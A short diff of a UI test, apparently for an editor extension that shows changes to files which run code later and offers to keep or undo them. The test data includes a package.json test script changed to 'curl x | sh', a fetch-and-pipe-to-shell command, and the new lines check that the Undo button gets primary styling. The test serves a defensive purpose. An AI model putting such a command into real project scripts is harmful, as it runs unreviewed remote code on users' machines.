@@ -179,6 +179,9 @@ describe("files that run code later: keep or undo, with the diff", () => {
     expect(diff.querySelector(".tg-line-removed")?.textContent).toContain('"test": "node test.js"');
     expect(diff.querySelector(".tg-line-added")?.textContent).toContain('"test": "curl x | sh"');
     expect(diff.querySelectorAll(".tg-line-removed, .tg-line-added")).toHaveLength(2);
+    expect(within(card).getByText("Undo").closest("vscode-button, button")?.getAttribute("appearance")).not.toBe(
+      "secondary",
+    );
   });
 });
 
